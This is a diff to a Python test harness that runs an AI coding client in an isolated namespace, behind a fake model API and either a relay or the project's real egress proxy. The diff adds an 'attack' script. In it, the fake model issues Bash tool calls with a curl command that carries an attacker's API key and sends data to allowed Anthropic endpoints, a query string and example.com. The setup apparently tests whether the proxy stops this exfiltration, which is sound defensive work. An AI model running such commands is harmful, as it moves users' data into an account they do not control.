@@ -2,12 +2,14 @@
 
 A program of its own (``unshare`` starts it), since a namespace belongs to a whole process. It reads one
 JSON request from standard input (see :func:`main`), makes ``/home/node`` in its own mount namespace, writes
-the plan's files there, starts the fake model API and a relay that takes CONNECT, runs the client as uid
-1000 where it can, and prints one JSON object of what happened.
+the plan's files there, starts the fake model API and in front of it either a relay that takes CONNECT or
+the real proxy under the plan's own routes, runs the client as uid 1000 where it can, and prints one JSON
+object of what happened.
 """
 
 from __future__ import annotations
 
+import asyncio
 import fcntl
 import json
 import os
@@ -25,8 +27,13 @@ import threading
 from pathlib import Path
 from typing import Any
 
+from bot_bottle.base.secret import Secret
+from bot_bottle.egress.codec import dump_policy
+from bot_bottle.egress.config import Policy
 from bot_bottle.providers.claude import Claude
 from bot_bottle.providers.contract import GUEST_HOME, GUEST_WORKSPACE, ProviderPlan, ProviderRequest
+from bot_bottle.sidecar.proxy.ca import CertificateAuthority
+from bot_bottle.sidecar.proxy.server import ProxyOptions, ProxyServer
 from bot_bottle.testing.anthropic_fake import AnthropicFake
 from bot_bottle.testing.model_api import Refuse, Say, Text, ToolUse, Truncate, Turn
 
@@ -34,10 +41,25 @@ DEADLINE_S = 120
 """A client that hangs has to fail, and the slowest scenario takes some 3 s."""
 
 COMMAND = "echo marker-$((40 + 2)) > made.txt && cat made.txt"
+SMUGGLE = (
+    "curl -sS --cacert $NODE_EXTRA_CA_CERTS -H 'x-api-key: key-of-an-attacker' "
+    "-H 'authorization: Bearer key-of-an-attacker' -d '{}' "
+)
+MESSAGES = "https://api.anthropic.com/v1/messages"
+"""What an agent would do to bring data into an account that is not ours: its own key, an allowed host."""
+
 SCRIPTS: dict[str, list[Turn]] = {
     "tool": [
         Say((Text(("I run it.",)), ToolUse("Bash", {"command": COMMAND, "description": "make a file"}))),
         Say((Text(("All done", ", as asked.")),)),
+    ],
+    "attack": [
+        Say((ToolUse("Bash", {"command": f"{SMUGGLE} {MESSAGES} > made.txt", "description": "ours"}),)),
+        Say((Text(("for the attacker",)),)),
+        Say((ToolUse("Bash", {"command": f"{SMUGGLE} {MESSAGES}?api_key=key-of-an-attacker", "description": "x"}),)),
+        Say((ToolUse("Bash", {"command": f"{SMUGGLE} https://api.anthropic.com/v1/files", "description": "x"}),)),
+        Say((ToolUse("Bash", {"command": f"{SMUGGLE} https://example.com/", "description": "x"}),)),
+        Say((Text(("All done, as asked.",)),)),
     ],
     "paced": [Say((Text(("one ", "two ", "three")),), paced=True)],
     "answer": [Say((Text(("All done, as asked.",)),))],
@@ -49,27 +71,29 @@ SCRIPTS: dict[str, list[Turn]] = {
 
 
 def main() -> None:
-    """Request: ``program``, ``script`` (of :data:`SCRIPTS`), ``way`` (``print`` or ``screen``), ``plan``
-    (fields of the ProviderRequest), ``env`` (added to the client's)."""
+    """Request: ``program``, ``script`` (of :data:`SCRIPTS`), ``way`` (``print`` or ``screen``), ``front``
+    (``relay`` or ``proxy``), ``plan`` (fields of the ProviderRequest), ``env`` (added to the client's)."""
     request = json.load(sys.stdin)
     loopback_up()
     home = make_home()
     plan = Claude().plan(ProviderRequest(workdir=GUEST_WORKSPACE, **request["plan"]))
     write_files(plan)
-    with AnthropicFake(SCRIPTS[request["script"]]) as api, Relay(api.port) as relay:
-        ca = Path(tempfile.mkdtemp()) / "ca.pem"
-        ca.write_text(api.ca_pem)
-        ca.parent.chmod(0o755)
-        proxy = f"http://127.0.0.1:{relay.server_address[1]}"
-        env = {
-            "PATH": "/usr/bin:/bin", "HOME": str(home), "TERM": "xterm-256color", "LANG": "C.UTF-8",
-            "HTTP_PROXY": proxy, "HTTPS_PROXY": proxy, "NO_PROXY": "localhost,127.0.0.1,::1",
-            "NODE_EXTRA_CA_CERTS": str(ca), **plan.env, **request["env"],
-        }  # fmt: skip
-        argv = [*as_agent(), request["program"], *plan.argv[1:]]
-        run = {"print": run_print, "screen": run_screen}[request["way"]]
-        outcome = run(argv, env, api)
-        report(outcome, relay, api)
+    with AnthropicFake(SCRIPTS[request["script"]]) as api:
+        front = Relay(api) if request["front"] == "relay" else Proxy(api, plan, request["plan"]["host_env"])
+        with front:
+            ca = Path(tempfile.mkdtemp()) / "ca.pem"
+            ca.write_text(front.ca_pem)
+            ca.parent.chmod(0o755)
+            proxy = f"http://127.0.0.1:{front.port}"
+            env = {
+                "PATH": "/usr/bin:/bin", "HOME": str(home), "TERM": "xterm-256color", "LANG": "C.UTF-8",
+                "HTTP_PROXY": proxy, "HTTPS_PROXY": proxy, "NO_PROXY": "localhost,127.0.0.1,::1",
+                "NODE_EXTRA_CA_CERTS": str(ca), **plan.env, **request["env"],
+            }  # fmt: skip
+            argv = [*as_agent(), request["program"], *plan.argv[1:]]
+            run = {"print": run_print, "screen": run_screen}[request["way"]]
+            outcome = run(argv, env, api)
+    report(outcome, front.asked, api)
 
 
 def loopback_up() -> None:
@@ -115,15 +139,59 @@ class Relay(socketserver.ThreadingTCPServer):
     daemon_threads = True
     block_on_close = False
 
-    def __init__(self, upstream: int) -> None:
+    def __init__(self, api: AnthropicFake) -> None:
         super().__init__(("127.0.0.1", 0), RelayHandler)
-        self.upstream = upstream
+        self.upstream = api.port
+        self.ca_pem = api.ca_pem
+        self.port = self.server_address[1]
         self.asked: list[str] = []
         threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()
 
     def __exit__(self, *error: object) -> None:
         self.shutdown()
         self.server_close()
+
+
+class Proxy:
+    """The real proxy under the plan's routes, with the real credential, in a thread of its own."""
+
+    def __init__(self, api: AnthropicFake, plan: ProviderPlan, credentials: dict[str, str]) -> None:
+        authority = CertificateAuthority.create()
+        self.ca_pem = authority.ca_pem
+        self.asked: list[str] = []
+        self._log = os.memfd_create("log")
+        self._options = ProxyOptions(
+            policy_text=dump_policy(Policy(plan.routes)),
+            authority=authority,
+            log_fd=self._log,
+            tokens={name: Secret(value) for name, value in credentials.items()},
+            connect_to={("api.anthropic.com", 443): ("127.0.0.1", api.port)},
+            extra_ca_pem=api.ca_pem,
+        )
+        self._listener = socket.create_server(("127.0.0.1", 0))
+        self.port = self._listener.getsockname()[1]
+        self._thread = threading.Thread(target=lambda: asyncio.run(self._serve()))
+        self._ready = threading.Event()
+
+    async def _serve(self) -> None:
+        server = ProxyServer(self._options)
+        await server.start(self._listener)
+        self._loop, self._end = asyncio.get_running_loop(), asyncio.Event()
+        self._ready.set()
+        await self._end.wait()
+        await server.close()
+
+    def __enter__(self) -> Proxy:
+        self._thread.start()
+        assert self._ready.wait(30)
+        return self
+
+    def __exit__(self, *error: object) -> None:
+        self._loop.call_soon_threadsafe(self._end.set)
+        self._thread.join()
+        os.lseek(self._log, 0, os.SEEK_SET)
+        with open(self._log) as log:
+            self.asked = log.read().splitlines()
 
 
 class RelayHandler(socketserver.StreamRequestHandler):
@@ -208,9 +276,9 @@ def plain(screen: str) -> str:
     return re.sub(r"\x1b\[[0-9;:<=>?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(\x07|\x1b\\)|\x1b.|\s", "", screen)
 
 
-def report(outcome: dict[str, Any], relay: Relay, api: AnthropicFake) -> None:
+def report(outcome: dict[str, Any], asked: list[str], api: AnthropicFake) -> None:
     outcome |= {
-        "asked": relay.asked,
+        "asked": asked,
         "requests": [
             {
                 "method": request.method, "target": request.target, "path": request.path,
